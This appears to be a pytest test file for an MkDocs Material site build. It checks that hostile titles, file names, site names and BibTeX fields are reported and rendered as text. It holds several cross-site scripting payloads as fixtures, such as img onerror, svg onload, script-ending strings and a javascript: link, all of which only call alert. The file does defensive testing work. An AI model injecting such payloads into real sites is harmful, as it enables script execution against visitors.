    config = write_site(tmp_path, {"claims/page.md": page, "sources.md": SOURCES_PAGE}, config=full_config())
    assert problems_of(config, tmp_path / "site") == set()
    tree = built(tmp_path / "site")
    assert_document_safe(tree)
    assert tree.css_first('meta[name="description"]').attributes["content"] == description
    assert tree.css_first('meta[name="author"]').attributes["content"] == author
    assert tree.css_first('meta[name="x"]') is None
    assert tree.css("img[onerror]") == []
    assert [node.text() for node in tree.css(".md-nav__link small")] == [subtitle]


# Material gives a title it cuts short (navigation, header, footer) its own text as a tooltip,
# shown as HTML: a title or subtitle that reads as markup running a script is reported, and a
# preview shows it as text there too.
def test_front_matter_title_read_as_markup_that_runs_is_reported(tmp_path):
    page = '---\ntitle: "&lt;img src=x onerror=alert(1)&gt; A title"\nsubtitle: "<img src=x onerror=alert(2)>"\n---\n' + HEAD
    config = write_site(tmp_path, {"claims/page.md": page, "sources.md": SOURCES_PAGE}, config=full_config())
    message = "HTM006 front matter '{}' reads as markup that runs a script where the theme cuts it short: its " \
              "tooltip shows the text as HTML"
    assert problems_of(config, tmp_path / "site") == {f"docs/claims/page.md:2:1: {message.format('title')}",
                                                      f"docs/claims/page.md:3:1: {message.format('subtitle')}"}
    tree = built(tmp_path / "site")
    for title in tree.css(".md-ellipsis"):  # what Material's tooltip would read as HTML
        assert not rendered.read(title.text()).unsafe, title.html


# The format characters the reading leaves out of the visible text are Unicode's own (category Cf) in
# the running Python: every one of them, and nothing a reader sees (beyond them, the class holds only
# characters this Python's table does not assign yet).
def test_the_format_characters_left_out_of_the_visible_text_are_unicodes_own():
    import unicodedata

    every = "".join(chr(code) for code in range(0x110000))
    held = set(rendered.FORMAT_CHARACTERS.findall(every))
    format_characters = {char for char in every if unicodedata.category(char) == "Cf"}
    assert format_characters <= held
    assert {unicodedata.category(char) for char in held - format_characters} <= {"Cn"}


# A page without a heading takes its title from its file name, as it is, and the theme writes that
# into the header and the navigation as HTML. A helper's file name hid an <img> from a reading of
# the header's text behind <ruby><rp>, which innerText skips: hovering the header title ran it.
@pytest.mark.parametrize("name", ["<ruby><rp>&lt;textarea&gt;<rt>&lt;img src=x onerror=alert(1)&gt;",
                                  "&lt;img src=x onerror=alert(1)&gt;"])  # markup once the tooltip decodes it
def test_a_file_name_that_makes_a_title_with_markup_is_reported_and_shown_as_text(tmp_path, name):
    config = write_site(tmp_path, {f"claims/{name}.md": "A claim.[@hubinger2019risks]\n", "claims/page.md": HEAD,
                                   "sources.md": SOURCES_PAGE}, config=full_config())
    with pytest.raises(Abort) as stopped:  # problems_of() reads no path with spaces
        build_site(config, tmp_path / "site", strict=False)
    assert [line for line in str(stopped.value).splitlines() if " HTM" in line or " CIT" in line] == [
        f"docs/claims/{name}.md:1:1: HTM006 the page's title {name!r}, made from its file name, holds markup "
        "that the theme writes as HTML in the header and the navigation: rename the file, or start the page "
        "with a '# ' heading"]
    for src in (f"claims/{name}.md", "claims/page.md"):
        tree = built(tmp_path / "site", src)
        assert [node.tag for node in tree.body.traverse() if node.tag in ("ruby", "rp", "rt", "img")] == []
        for title in tree.css(".md-ellipsis"):  # what Material's tooltip would read as HTML
            assert not rendered.holds_markup(title.text()) and not rendered.read(title.text()).unsafe, title.html


def test_front_matter_title_with_ampersand_and_quotes_is_left_as_written(tmp_path):
    page = '---\ntitle: Q&A on "inner" alignment\n---\n' + HEAD
    config = write_site(tmp_path, {"claims/page.md": page, "sources.md": SOURCES_PAGE}, config=full_config())
    assert problems_of(config, tmp_path / "site") == set()
    tree = built(tmp_path / "site")
    assert tree.css_first("title").text() == 'Q&A on "inner" alignment - Fixture'
    footer_free = [" ".join(a.text().split()) for a in tree.css("nav.md-nav--primary a")]
    assert 'Q&A on "inner" alignment' in footer_free


def test_json_ld_holds_hostile_page_title_and_site_name_inside_its_script(tmp_path):
    site_name = "Site </script><!--<script>alert(2)</script>"
    page = "---\ntitle: " + json.dumps(HOSTILE_TITLE) + "\n---\n" + HEAD
    config = write_site(tmp_path, {"claims/page.md": page, "sources.md": SOURCES_PAGE},
                        config=full_config(site_name=site_name, site_url="https://example.org/"))
    # Material writes the site's name into every page's header as it is: the build refuses it there.
    assert problems_of(config, tmp_path / "site") == {
        "mkdocs.yml:1:12: CFG003 site_name holds '<', which ends the text, attribute or script string the theme "
        "writes it in, on every page"}
    tree = built(tmp_path / "site")
    data = json_ld(tree)
    assert data["headline"] == data["name"] == HOSTILE_TITLE
    assert data["isPartOf"] == {"@type": "WebSite", "name": site_name, "url": "https://example.org/"}
    assert [work["@id"] for work in data["citation"]] == [
        "https://example.org/sources/#source-hubinger2019risks", "https://example.org/sources/#source-clark2016faulty"]
    # The element ends where the JSON ends: nothing of the values leaked out as markup.
    raw = (tmp_path / "site" / "claims" / "page" / "index.html").read_text(encoding="utf-8")
    block = raw.split('<script type="application/ld+json">', 1)[1].split("</script>", 1)[0]
    assert json.loads(block) == data
    assert not re.search(r"[<>&]", block)


def test_scholar_tags_hold_quotes_and_tags_as_text(tmp_path):
    # Quotes and "&" in a bib title are text; a "<" there is refused by the .bib checks (BIB013).
    bib = SOURCES.replace("Faulty reward functions in the wild", 'Faulty "reward" functions & more')
    page = '---\ntitle: A "quoted" <i>title</i>\n---\n' + HEAD
    config = write_site(tmp_path, {"claims/page.md": page, "sources.md": SOURCES_PAGE}, bib=bib,
                        config=full_config())
    assert problems_of(config, tmp_path / "site") == set()
    tree = built(tmp_path / "site")
    assert_document_safe(tree)
    tags = [(m.attributes["name"], m.attributes["content"]) for m in tree.css("head meta[name^=citation_]")]
    assert ("citation_title", 'A "quoted" <i>title</i>') in tags
    references = [content for name, content in tags if name == "citation_reference"]
    assert len(references) == 2
    assert references[1].startswith('citation_title=Faulty "reward" functions & more;')
    assert tree.css_first("head b") is None and tree.css_first("head i") is None


def test_sources_page_lists_every_source_safely_with_its_cited_by_links(tmp_path):
    config = write_site(tmp_path, {"claims/page.md": HEAD, "sources.md": SOURCES_PAGE}, config=full_config())
    assert problems_of(config, tmp_path / "site") == set()
    text = safe_article_text(tmp_path / "site", "sources.md")
    assert "Risks from learned optimization" in text and "Faulty reward functions" in text
    tree = built(tmp_path / "site", "sources.md")
    cited_by = [a.attributes["href"] for a in tree.css("article .cited-by a")]
    assert cited_by == ["../claims/page/#fnref:hubinger2019risks", "../claims/page/#fnref:clark2016faulty"]


# -----------------------------------------------------------------------------
# Settings of the wrong type (CFG001 at the setting's own line)
# -----------------------------------------------------------------------------

SETTINGS_HEAD = f"""site_name: Fixture
theme:
  name: material
  font: false
plugins:
  - bibtex:
      bib_dir: bib
      footnote_format: "{{key}}"
      enable_inline_citations: false
hooks:
  - {HOOKS / 'citations.py'}
markdown_extensions:
  - footnotes
"""
CONTENT = "(pages that must cite a source: folders end with '/', files are named)"
UNCITED = "(sources no page cites yet, each with a reason)"
KNOWN = "(known: content, uncited_sources, explainers, sources_page, glossary)"

SETTINGS = [
    ("citations-a-list", "extra:\n  citations:\n    - content\n",
     {"mkdocs.yml:15:1: CFG001 extra.citations must be a mapping, not a list"}),
    ("citations-a-string", "extra:\n  citations: claims/\n",
     {"mkdocs.yml:15:1: CFG001 extra.citations must be a mapping, not the text 'claims/'"}),
    ("content-a-string", "extra:\n  citations:\n    content: claims/\n",
     {f"mkdocs.yml:16:1: CFG001 extra.citations.content {CONTENT} must be a list of page paths, "
      "not the text 'claims/'"}),
    ("content-item-a-number", "extra:\n  citations:\n    content:\n      - claims/\n      - 3\n",
     {"mkdocs.yml:18:1: CFG001 extra.citations.content item 2 must be a page path, not int 3"}),
    ("content-item-empty", "extra:\n  citations:\n    content: ['']\n",
     {"mkdocs.yml:16:1: CFG001 extra.citations.content item 1 must be a page path, not the text ''"}),
    ("uncited-a-list", "extra:\n  citations:\n    uncited_sources:\n      - clark2016faulty\n",
     {f"mkdocs.yml:16:1: CFG001 extra.citations.uncited_sources {UNCITED} must be a mapping of key: reason, "
      "not a list"}),
    ("uncited-a-string", "extra:\n  citations:\n    uncited_sources: clark2016faulty\n",
     {f"mkdocs.yml:16:1: CFG001 extra.citations.uncited_sources {UNCITED} must be a mapping of key: reason, "
      "not the text 'clark2016faulty'"}),
    ("uncited-reason-a-list", "extra:\n  citations:\n    uncited_sources:\n      clark2016faulty: [a, b]\n",
     {"mkdocs.yml:17:1: CFG001 extra.citations.uncited_sources.clark2016faulty: the reason must be text, "
      "not a list"}),
    ("uncited-reason-missing", "extra:\n  citations:\n    uncited_sources:\n      clark2016faulty:\n",
     {"mkdocs.yml:17:1: BIB009 uncited_sources lists 'clark2016faulty' with no reason"}),
    ("explainers-a-mapping", "extra:\n  citations:\n    explainers:\n      claims/: yes\n",
     {"mkdocs.yml:16:1: CFG001 extra.citations.explainers (pages that get 'Cite this page' and citation "
      "metadata) must be a list of page paths, not a mapping"}),
    ("sources-page-a-list", "extra:\n  citations:\n    sources_page: [sources.md]\n",
     {"mkdocs.yml:16:1: CFG001 extra.citations.sources_page (the page that lists every source) must be a page "
      "path, not a list"}),
    ("glossary-a-number", "extra:\n  citations:\n    glossary: 3\n",
     {"mkdocs.yml:16:1: CFG001 extra.citations.glossary (the glossary page) must be a page path, not int 3"}),
    ("glossary-false", "extra:\n  citations:\n    glossary: false\n",
     {"mkdocs.yml:16:1: CFG001 extra.citations.glossary (the glossary page) must be a page path, not true/false"}),
    ("misspelt-setting", "extra:\n  citations:\n    contents: [claims/]\n",
     {f"mkdocs.yml:16:1: CFG001 extra.citations has no setting 'contents' {KNOWN}"}),
    ("number-as-setting", "extra:\n  citations:\n    3: x\n",
     {f"mkdocs.yml:16:1: CFG001 extra.citations has no setting '3' {KNOWN}"}),
    ("citations-empty", "extra:\n  citations:\n", set()),
    ("yaml-anchors", "extra:\n  citations:\n    content: &pages [claims/]\n    explainers: *pages\n", set()),
]


@pytest.mark.parametrize("case, settings, expected", SETTINGS, ids=[case for case, _, _ in SETTINGS])
def test_setting_of_the_wrong_type_is_named_at_its_line(case, settings, expected, tmp_path):
    config = write_site(tmp_path, {"claims/page.md": HEAD}, config=SETTINGS_HEAD + settings)
    assert problems_of(config, tmp_path / "site") == expected


def test_extra_that_is_not_a_mapping_is_refused_by_mkdocs_with_a_message(tmp_path, caplog):
    config = write_site(tmp_path, {"claims/page.md": HEAD}, config=SETTINGS_HEAD + "extra:\n  - citations\n")
    with pytest.raises(Abort, match="Aborted with a configuration error"):
        build_site(config, tmp_path / "site", strict=False)
    assert "Config value 'extra': The configuration is invalid. Expected a key-value mapping" in caplog.text


# -----------------------------------------------------------------------------
# Hostile bib values: the .bib checks name each at its field, and no page shows any of it
# -----------------------------------------------------------------------------

HOSTILE_BIB = r"""
@article{doi2020evil,
  author  = {Doe, Jane},
  title   = {A paper with a hostile DOI},
  journal = {Journal},
  year    = {2020},
  doi     = {10.1000/x)<img src=x onerror=alert(1)>}
}

@misc{url2020evil,
  author = {Roe, Rick},
  title  = {A post with a hostile URL},
  year   = {2020},
  url    = {https://x.org/a)<svg onload=alert(2)>}
}

@misc{eprint2020evil,
  author        = {Poe, Pat},
  title         = {A preprint with a hostile eprint},
  year          = {2020},
  eprint        = {<script>alert(4)</script>},
  archiveprefix = {foo},
  url           = {https://example.org/e}
}

@misc{title2020evil,
  author = {Loe, Lou},
  title  = {A title <img src=x onerror=alert(3)> here},
  year   = {2020},
  note   = {A note <svg onload=alert(5)> and [x](javascript:alert(6))},
  url    = {https://example.org/t}
}

@article{comment2020evil,
  author  = {Moe, Max},
  title   = {A DOI that opens a comment},
  journal = {Journal},
  year    = {2020},
  doi     = {10.1000/<!--</script><script>alert(7)</script>}
}

@misc{pubmed2020evil,
  author = {Noe, Ned},
  title  = {A pubmed value},
  year   = {2020},
  pubmed = {1)<img src=x onerror=alert(8)>},
  url    = {https://example.org/p}
}
"""
HOSTILE_KEYS = ["doi2020evil", "url2020evil", "eprint2020evil", "title2020evil", "comment2020evil",
                "pubmed2020evil"]
HOSTILE_PAGE = "# Hostile sources\n\n" + "\n\n".join(f"Claim {n}.[@{key}]" for n, key in enumerate(HOSTILE_KEYS)) + "\n"


@pytest.fixture(scope="module")
def hostile_bib_site(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile-bib")
    config = write_site(root, {"claims/page.md": HOSTILE_PAGE, "sources.md": SOURCES_PAGE}, bib=HOSTILE_BIB,
                        config=full_config())
    return root, problems_of(config, root / "site")


# Once some of these values reached the pages and were shown as text. The .bib reader now
# quarantines every one of these entries (named at its field below), so what must hold is that a
# refused entry leaves the page safe with all its sentences and puts no reference of it anywhere.
def test_hostile_bib_values_reach_no_page_as_markup(hostile_bib_site):
    root, _ = hostile_bib_site
    titles = ("A paper with a hostile", "A post with a hostile", "A preprint with a hostile", "A title ",
              "A DOI that opens", "A pubmed value")
    for src in ("claims/page.md", "sources.md"):
        tree = built(root / "site", src)
        assert_document_safe(tree)
        text = safe_article_text(root / "site", src)
        assert not any(title in text for title in titles), text
    text = safe_article_text(root / "site")
    assert all(f"Claim {n}." in text for n in range(len(HOSTILE_KEYS)))
    assert json_ld(built(root / "site"))["citation"] == []


# Where the .bib checks must name each hostile field: the line of the field in HOSTILE_BIB (the
# first hostile field of the entry).
BIB_FIELD_LINES = {"doi2020evil": 7, "url2020evil": 14, "eprint2020evil": 21, "title2020evil": 28,
                   "comment2020evil": 39, "pubmed2020evil": 46}


@pytest.mark.parametrize("key", HOSTILE_KEYS)
def test_hostile_field_is_named_by_the_bib_checks_at_its_line(key, hostile_bib_site):
    _, problems = hostile_bib_site
    assert any(line.startswith(f"bib/sources.bib:{BIB_FIELD_LINES[key]}:") and f"'{key}'" in line and " BIB" in line
               for line in problems), problems


# The build names the file in its report only for a title MkDocs made from the file name: the copy
# of MkDocs' rule in pagemeta gives MkDocs' own title for any file name (a page with no heading
# and no front matter title, rendered).
@hypothesis.settings(max_examples=300, deadline=None)
@hypothesis.given(name=st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="/\\\0"),
                               min_size=1, max_size=20))
def test_the_title_made_from_a_file_name_is_the_one_mkdocs_makes(name):
    from mkdocs.structure.files import File
    from mkdocs.structure.pages import Page

    hypothesis.assume(name not in ("index", "README"))
    file = File(f"notes/{name}.md", "docs", "site", use_directory_urls=True)
    page = Page(None, file, {})
    page.markdown, page.content, page.meta = "No heading.", "<p>No heading.</p>", {}
    assert pagemeta.title_of_file_name(file.name) == page.title


# The classes and data attributes a page's content may not carry are the ones Material's scripts
# select (its own .md-* classes, and those it tests for, but the focus-visible polyfill's) and the
# ones its style sheet shows as text: held to the installed theme's bundle and style sheet.
def test_the_theme_classes_and_attributes_refused_are_the_ones_materials_scripts_select():
    import material

    assets = Path(material.__file__).parent / "templates" / "assets"
    bundle = next((assets / "javascripts").glob("bundle.*.min.js")).read_text(encoding="utf-8")
    sheet = next((assets / "stylesheets").glob("main.*.min.css")).read_text(encoding="utf-8")
    selected = set(re.findall(r'\("\.(md-[\w-]+)', bundle)) | set(re.findall(r'classList\.contains\("([\w-]+)"\)', bundle))
    selected |= set(re.findall(r'\("pre\.([\w-]+)"', bundle))  # pre.mermaid: a diagram drawn from the block's text
    assert selected - {"focus-visible"} == rendered.THEME_SCRIPT_CLASSES
    attributes = set(re.findall(r"\[(data-[\w-]+)", bundle)) | set(re.findall(r"content:attr\((data-[\w-]+)\)", sheet))
    attributes = {name for name in attributes if not name.startswith(rendered.THEME_ATTRIBUTE_PREFIX)}
    assert attributes == rendered.THEME_SCRIPT_ATTRIBUTES | {name for name in rendered.REREAD_ATTRIBUTES if name.startswith("data-")}


# A permalink's text and a backlink's are the extensions' settings: a site whose headings link with
# "#" and whose footnotes link back with "back" shows no small print of its own making.
@pytest.mark.parametrize("prefix", ["", "markdown.extensions."], ids=["short-names", "long-names"])
def test_a_permalink_and_a_backlink_with_other_text_are_the_extensions_own(tmp_path, prefix):
    config = base_config()
    config["markdown_extensions"] = [item for item in config["markdown_extensions"] if item != "footnotes"] + [
        {f"{prefix}toc": {"permalink": "Link"}}, {f"{prefix}footnotes": {"BACKLINK_TEXT": "back"}}]
    page = HEAD + "## A part\n\nAn aside.[^note]\n\n[^note]: Which cites too.[@clark2016faulty]\n"
    config_file = write_site(tmp_path, {"claims/page.md": page}, config=config)
    assert problems_of(config_file, tmp_path / "site") == set()


# A page's reading is kept with the link texts it was read with: the same HTML under settings that no
# longer make "back" the backlink's text is read again, in one process as `make serve` builds (a review's
# case: the second build reused the first's reading).
def test_a_reading_is_not_reused_under_other_link_texts(tmp_path):
    page = ("A claim.[@hubinger2019risks] An aside.[^note]\n\n[^note]: Which cites.[@clark2016faulty] "
            '<a class="footnote-backref" href="#fnref:note">back</a>\n')
    outcomes = []
    for name, permalink in (("allowed", "back"), ("refused", True)):
        config = base_config()
        config["markdown_extensions"] = [item for item in config["markdown_extensions"] if item != "toc"] + [
            {"toc": {"permalink": permalink}}]
        config_file = write_site(tmp_path / name, {"claims/page.md": page}, config=config)
        outcomes.append(problems_of(config_file, tmp_path / name / "site"))
    assert outcomes[0] == set()
    assert {problem.split(" HTM006 ")[1] for problem in outcomes[1]} == {f"unsafe text 'back' {SMALL}"}


# Each element a browser's own style sheet shows as a block starts a block of text: two lines that
# readers see apart are never one sentence of the ledger (a helper's reading of the code).
def test_every_element_a_browser_shows_as_a_block_starts_a_block_of_text():
    reading = rendered.read("<aside>Raters err</aside><center>Models lie</center><fieldset><legend>Note</legend>"
                            "Text</fieldset><nav>Menu</nav><address>Here</address>")
    assert [block.text for block in reading.blocks] == ["Raters err", "Models lie", "Note", "Text", "Menu", "Here"]


# Code in small print with an exponent, a linked power of ten and a superscript two in a link are no
# hidden text and no marker (a reviewer's cases, which the first rules refused).
def test_small_print_code_with_an_exponent_and_linked_powers_are_not_reported(tmp_path):
    page = ("# Page\n\n<small>Run `x<sup>2</sup>` here.</small> Above [10<sup>25</sup>](https://example.org/flop) "
            "FLOP, in m<sup>[²](https://example.org/area)</sup>.[@clark2016faulty][@hubinger2019risks]\n")
    config_file = write_site(tmp_path, {"claims/page.md": page}, config=base_config(ALL_HOOKS))
    assert problems_of(config_file, tmp_path / "site") == set()
